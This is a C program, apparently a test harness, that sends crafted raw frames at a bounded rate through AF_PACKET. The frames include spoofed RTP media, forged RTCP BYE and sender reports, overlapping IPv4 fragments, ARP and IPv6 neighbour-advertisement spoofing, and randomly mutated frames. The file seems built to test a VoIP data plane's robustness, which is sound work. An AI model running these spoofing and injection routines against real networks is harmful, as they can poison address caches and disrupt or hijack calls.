/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Sends what an attacker on the link could send to the data plane: frames of its own making through AF_PACKET, at a bounded rate
 * and for a bounded time. It shares no code with the product. Everything that may vary is a value or a range of values
 * drawn at random from a seed; the answer on standard output is how many frames were sent.
 *
 * usage: rtp_attacker --interface IF --to-mac MAC --kind KIND [--to A] [--from A[-B]] [--from-port P[-Q]] [--to-port P[-Q]]
 *        [--ssrc N[-M]] [--rate FRAMES/S] [--seconds S] [--seed N]
 * kinds: rtp, bye, sr, garbage (RTCP), fragment, mutate, arp, nd. Addresses are IPv4; `nd` and `mutate` use fd77::/64 with
 * the last two bytes of --to and --from.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAME_MAX 1514u
#define VOICE	  160u /* bytes: 20 ms of G.711 */
#define VOICE_TAG 0x66 /* no good call sends this */

struct range {
	uint32_t first, last;
};

static struct {
	const char *interface, *kind;
	uint8_t to_mac[6], our_mac[6];
	uint32_t to;
	struct range from, from_port, to_port, ssrc;
	uint32_t rate, seconds;
	uint64_t random;
} options = {.kind = "rtp",
	.from_port = {40000, 40000},
	.to_port = {5004, 5004},
	.ssrc = {1, 1},
	.rate = 1000,
	.seconds = 1,
	.random = 1};

struct frame {
	uint8_t bytes[FRAME_MAX];
	size_t len;
};

static void die(const char *what)
{
	fprintf(stderr, "rtp_attacker: %s: %s\n", what, strerror(errno));
	exit(EXIT_FAILURE);
}

static uint32_t draw(void)
{
	options.random ^= options.random << 13;
	options.random ^= options.random >> 7;
	options.random ^= options.random << 17;
	return (uint32_t)(options.random >> 32);
}

static uint32_t pick(const struct range *range)
{
	uint64_t count = (uint64_t)range->last - range->first + 1;

	return range->first + (uint32_t)(draw() * count >> 32);
}

static void put(struct frame *frame, const void *bytes, size_t len)
{
	memcpy(frame->bytes + frame->len, bytes, len);
	frame->len += len;
}

static void put8(struct frame *frame, uint8_t value)
{
	put(frame, &value, 1);
}

static void put16(struct frame *frame, uint16_t value)
{
	value = htons(value);
	put(frame, &value, 2);
}

static void put32(struct frame *frame, uint32_t value)
{
	value = htonl(value);
	put(frame, &value, 4);
}

static void set16(uint8_t *at, uint16_t value)
{
	value = htons(value);
	memcpy(at, &value, 2);
}

/* RFC 1071, of bytes and what was summed up before. */
static uint16_t checksum(const uint8_t *bytes, size_t len, uint32_t sum)
{
	for (size_t i = 0; i < len; i++)
		sum += i % 2 == 0 ? (uint32_t)bytes[i] << 8 : bytes[i];
	while (sum >> 16 != 0)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put_ethernet(struct frame *frame, const uint8_t to[6], uint16_t type)
{
	frame->len = 0;
	put(frame, to, 6);
	put(frame, options.our_mac, 6);
	put16(frame, type);
}

static void put_address6(struct frame *frame, uint32_t address4)
{
	uint8_t address[16] = {0xfd, 0x77, [15] = (uint8_t)address4};

	put(frame, address, sizeof(address));
}

static void put_rtp(struct frame *frame, uint16_t seq, uint32_t ssrc)
{
	put8(frame, 0x80);
	put8(frame, 0);
	put16(frame, seq);
	put32(frame, 160u * seq);
	put32(frame, ssrc);
	memset(frame->bytes + frame->len, VOICE_TAG, VOICE);
	frame->len += VOICE;
}

static void put_rtcp(struct frame *frame, uint32_t ssrc)
{
	if (strcmp(options.kind, "sr") == 0) {
		put32(frame, 0x81c8000c); /* one report block */
		put32(frame, ssrc);
		for (unsigned int i = 0; i < 11; i++)
			put32(frame, draw());
	} else {
		put32(frame, 0x80c90001); /* an empty receiver report comes first */
		put32(frame, ssrc);
		put32(frame, 0x81cb0001); /* BYE */
		put32(frame, ssrc);
	}
}

static void put_garbage(struct frame *frame)
{
	unsigned int len = 4 + draw() % 200;

	put8(frame, (uint8_t)(0x80 | draw() % 0x40));
	put8(frame, (uint8_t)(192 + draw() % 32));
	for (unsigned int i = 2; i < len; i++)
		put8(frame, (uint8_t)draw());
}

/* IPv4 and UDP around a payload, lengths and checksums right. */
static void build4(struct frame *frame, uint16_t seq)
{
	size_t ip, udp;

	put_ethernet(frame, options.to_mac, ETHERTYPE_IP);
	ip = frame->len;
	put32(frame, 0x45000000);
	put32(frame, (uint32_t)draw() << 16);
	put32(frame, 0x40110000);
	put32(frame, pick(&options.from));
	put32(frame, options.to);
	udp = frame->len;
	put16(frame, (uint16_t)pick(&options.from_port));
	put16(frame, (uint16_t)pick(&options.to_port));
	put32(frame, 0); /* length; no checksum */
	if (strcmp(options.kind, "bye") == 0 || strcmp(options.kind, "sr") == 0)
		put_rtcp(frame, pick(&options.ssrc));
	else if (strcmp(options.kind, "garbage") == 0)
		put_garbage(frame);
	else
		put_rtp(frame, seq, pick(&options.ssrc));
	set16(frame->bytes + ip + 2, (uint16_t)(frame->len - ip));
	set16(frame->bytes + udp + 4, (uint16_t)(frame->len - udp));
	set16(frame->bytes + ip + 10, checksum(frame->bytes + ip, 20, 0));
}

static void build6(struct frame *frame, uint16_t seq)
{
	size_t ip, udp, len;

	put_ethernet(frame, options.to_mac, ETHERTYPE_IPV6);
	ip = frame->len;
	put32(frame, 0x60000000);
	put32(frame, 0x00001140); /* length, UDP, 64 hops */
	put_address6(frame, pick(&options.from));
	put_address6(frame, options.to);
	udp = frame->len;
	put16(frame, (uint16_t)pick(&options.from_port));
	put16(frame, (uint16_t)pick(&options.to_port));
	put32(frame, 0);
	put_rtp(frame, seq, pick(&options.ssrc));
	len = frame->len - udp;
	set16(frame->bytes + ip + 4, (uint16_t)len);
	set16(frame->bytes + udp + 4, (uint16_t)len);
	/* The pseudo header is the two addresses, the length and the protocol (RFC 8200 8.1). */
	set16(frame->bytes + udp + 6, checksum(frame->bytes + ip + 8, frame->len - ip - 8, (uint32_t)len + 17));
}

/* First pieces, middle ones and overlapping last ones of datagrams that never become whole. */
static void build_fragment(struct frame *frame, uint16_t seq)
{
	static const uint16_t pieces[] = {0x2000, 0x2000 | 185, 100, 0x3fff};
	uint8_t *ip = frame->bytes + 14;

	build4(frame, seq);
	set16(ip + 6, pieces[seq % 4]);
	set16(ip + 10, 0);
	set16(ip + 10, checksum(ip, 20, 0));
}

static void build_arp(struct frame *frame, uint16_t seq)
{
	static const uint8_t everybody[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
	uint32_t victim = pick(&options.from);
	unsigned int variant = seq % 4;

	/* 0: an answer, 1: gratuitous, 2: a question that claims, 3: an answer to everybody. */
	put_ethernet(frame, variant == 0 ? options.to_mac : everybody, ETHERTYPE_ARP);
	put32(frame, 0x00010800);
	put16(frame, 0x0604);
	put16(frame, variant == 2 ? 1 : 2);
	put(frame, options.our_mac, 6);
	put32(frame, victim);
	put(frame, variant == 0 || variant == 3 ? options.to_mac : everybody, 6);
	put32(frame, variant == 1 ? victim : options.to);
}

/* An unsolicited neighbour advertisement (RFC 4861 4.4) that says override, or a solicitation with our link address as the victim's. */
static void build_nd(struct frame *frame, uint16_t seq)
{
	bool solicitation = seq % 2 != 0;
	uint32_t victim = pick(&options.from);
	size_t ip, icmp;

	put_ethernet(frame, options.to_mac, ETHERTYPE_IPV6);
	ip = frame->len;
	put32(frame, 0x60000000);
	put32(frame, 0x00203aff);
	put_address6(frame, victim);
	put_address6(frame, options.to);
	icmp = frame->len;
	put32(frame, solicitation ? 0x87000000 : 0x88000000);
	put32(frame, solicitation ? 0 : seq % 4 == 0 ? 0x60000000 : 0x20000000); /* solicited, override */
	put_address6(frame, solicitation ? options.to : victim);
	put16(frame, solicitation ? 0x0101 : 0x0201);
	put(frame, options.our_mac, 6);
	set16(frame->bytes + icmp + 2, checksum(frame->bytes + ip + 8, frame->len - ip - 8, 32 + 58));
}

static void insert_tags(struct frame *frame)
{
	static const uint8_t tags[][4] = {{0x81, 0x00, 0x00, 0x07}, {0x88, 0xa8, 0x0f, 0xff}, {0x81, 0x00, 0x00, 0x00}};
	unsigned int count = 1 + draw() % 3;

	for (unsigned int i = 0; i < count; i++) {
		memmove(frame->bytes + 16, frame->bytes + 12, frame->len - 12);
		memcpy(frame->bytes + 12, tags[draw() % 3], 4);
		frame->len += 4;
	}
}

/* A valid frame with one to four things wrong; destination and source stay, so that it arrives. */
static void build_mutated(struct frame *frame, uint16_t seq)
{
	unsigned int changes = 1 + draw() % 4;

	(draw() % 3 == 0 ? build6 : build4)(frame, seq);
	for (unsigned int i = 0; i < changes; i++) {
		switch (draw() % 5) {
		case 0: /* a byte of the headers */
			frame->bytes[12 + draw() % 60] = (uint8_t)draw();
			break;
		case 1: /* a bit anywhere */
			frame->bytes[12 + draw() % (frame->len - 12)] ^= (uint8_t)(1u << draw() % 8);
			break;
		case 2: /* cut */
			frame->len = 74 + draw() % (frame->len - 73);
			break;
		case 3: /* two bytes that look like a length */
			set16(frame->bytes + 14 + 2 * (draw() % 28), (uint16_t)(draw() % 4 == 0 ? 0xffff : draw() % 300));
			break;
		default:
			if (frame->len + 12 <= FRAME_MAX)
				insert_tags(frame);
		}
	}
	if (draw() % 4 == 0)
		frame->len = 14 + draw() % (frame->len - 14);
}

static void build(struct frame *frame, uint16_t seq)
{
	if (strcmp(options.kind, "arp") == 0)
		build_arp(frame, seq);
	else if (strcmp(options.kind, "nd") == 0)
		build_nd(frame, seq);
	else if (strcmp(options.kind, "mutate") == 0)
		build_mutated(frame, seq);
	else if (strcmp(options.kind, "fragment") == 0)
		build_fragment(frame, seq);
	else
		build4(frame, seq);
}

static int open_link(struct sockaddr_ll *to)
{
	int link = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), yes = 1;
	struct ifreq request = {0};

	if (link < 0)
		die("AF_PACKET");
	snprintf(request.ifr_name, sizeof(request.ifr_name), "%s", options.interface);
	if (ioctl(link, SIOCGIFHWADDR, &request) < 0)
		die(options.interface);
	memcpy(options.our_mac, request.ifr_hwaddr.sa_data, 6);
	if (setsockopt(link, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes)) < 0)
		die("PACKET_QDISC_BYPASS");
	*to = (struct sockaddr_ll){
		.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(options.interface), .sll_halen = 6};
	memcpy(to->sll_addr, options.to_mac, 6);
	return link;
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
}

/* Every millisecond as many frames as are due; what the link does not take is not sent again. */
static uint64_t attack(void)
{
	struct sockaddr_ll to;
	int link = open_link(&to);
	uint64_t start = now_ns(), end = start + options.seconds * UINT64_C(1000000000), tried = 0, sent = 0, now;
	struct frame frame;

	while ((now = now_ns()) < end) {
		uint64_t due = (now - start) * options.rate / 1000000000u;
		struct timespec wait = {.tv_nsec = 1000000};

		for (; tried < due; tried++) {
			build(&frame, (uint16_t)tried);
			sent += sendto(link, frame.bytes, frame.len, 0, (struct sockaddr *)&to, sizeof(to)) >= 0;
		}
		nanosleep(&wait, NULL);
	}
	close(link);
	return sent;
}

static uint32_t parse_address(const char *text)
{
	struct in_addr address;

	errno = EINVAL;
	if (inet_pton(AF_INET, text, &address) != 1)
		die(text);
	return ntohl(address.s_addr);
}

static struct range parse_range(char *text, uint32_t (*parse)(const char *text))
{
	char *dash = strchr(text, '-');
	struct range range;

	if (dash != NULL)
		*dash = '\0';
	range.first = range.last = parse(text);
	if (dash != NULL)
		range.last = parse(dash + 1);
	errno = EINVAL;
	if (range.last < range.first)
		die("a range goes backwards");
	return range;
}

static uint32_t parse_number(const char *text)
{
	char *end;
	unsigned long value = strtoul(text, &end, 0);

	errno = EINVAL;
	if (*text == '\0' || *end != '\0' || value > UINT32_MAX)
		die(text);
	return (uint32_t)value;
}

static void parse_options(int argc, char *argv[])
{
	enum { INTERFACE, TO_MAC, KIND, TO, FROM, FROM_PORT, TO_PORT, SSRC, RATE, SECONDS, SEED };
	static const struct option names[] = {{"interface", 1, NULL, INTERFACE}, {"to-mac", 1, NULL, TO_MAC},
		{"kind", 1, NULL, KIND}, {"to", 1, NULL, TO}, {"from", 1, NULL, FROM}, {"from-port", 1, NULL, FROM_PORT},
		{"to-port", 1, NULL, TO_PORT}, {"ssrc", 1, NULL, SSRC}, {"rate", 1, NULL, RATE}, {"seconds", 1, NULL, SECONDS},
		{"seed", 1, NULL, SEED}, {NULL, 0, NULL, 0}};
	uint8_t *mac = options.to_mac;
	int option;

	while ((option = getopt_long(argc, argv, "", names, NULL)) != -1) {
		switch (option) {
		case INTERFACE:
			options.interface = optarg;
			break;
		case TO_MAC:
			errno = EINVAL;
			if (sscanf(optarg, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) !=
				6)
				die(optarg);
			break;
		case KIND:
			options.kind = optarg;
			break;
		case TO:
			options.to = parse_address(optarg);
			break;
		case FROM:
			options.from = parse_range(optarg, parse_address);
			break;
		case FROM_PORT:
			options.from_port = parse_range(optarg, parse_number);
			break;
		case TO_PORT:
			options.to_port = parse_range(optarg, parse_number);
			break;
		case SSRC:
			options.ssrc = parse_range(optarg, parse_number);
			break;
		case RATE:
			options.rate = parse_number(optarg);
			break;
		case SECONDS:
			options.seconds = parse_number(optarg);
			break;
		case SEED:
			options.random = parse_number(optarg) * UINT64_C(0x9e3779b97f4a7c15) + 1;
			break;
		default:
			exit(EXIT_FAILURE);
		}
	}
	errno = EINVAL;
	if (options.interface == NULL)
		die("--interface is missing");
}

int main(int argc, char *argv[])
{
	parse_options(argc, argv);
	printf("{\"sent\": %llu}\n", (unsigned long long)attack());
	return EXIT_SUCCESS;
}
